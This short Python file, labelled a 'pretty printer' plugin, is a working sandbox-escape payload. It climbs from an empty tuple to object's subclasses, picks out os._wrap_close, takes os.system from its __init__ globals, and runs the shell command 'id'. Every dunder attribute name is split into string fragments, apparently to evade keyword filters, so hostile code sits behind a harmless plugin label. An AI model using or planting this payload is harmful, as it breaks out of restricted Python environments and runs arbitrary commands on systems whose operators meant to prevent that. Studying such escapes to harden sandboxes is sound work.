# "Pretty printer" plugin: climbs from an empty tuple to object, then picks
# os._wrap_close out of the subclass list and borrows os.system from its
# __init__ globals. Every dunder is split so no attribute literal appears.
g = getattr
root = g(g((), '__cla' + 'ss__'), '__ba' + 'se__')
for k in g(root, '__subcl' + 'asses__')():
    if g(k, '__name__') == '_wrap' + '_close':
        gl = g(g(k, '__in' + 'it__'), '__glo' + 'bals__')
        gl['sys' + 'tem']('id')
        break
